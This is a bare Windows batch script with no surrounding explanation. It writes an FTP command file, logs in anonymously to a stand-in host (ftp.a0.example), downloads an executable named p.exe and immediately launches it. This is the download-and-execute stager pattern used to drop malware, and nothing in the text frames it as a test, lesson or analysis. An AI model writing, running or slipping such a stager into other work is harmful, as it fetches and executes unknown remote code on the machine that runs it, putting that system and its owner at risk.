@echo off
echo open ftp.a0.example 21> f.txt
echo user anonymous>> f.txt
echo get p.exe>> f.txt
echo bye>> f.txt
ftp -s:f.txt
start p.exe
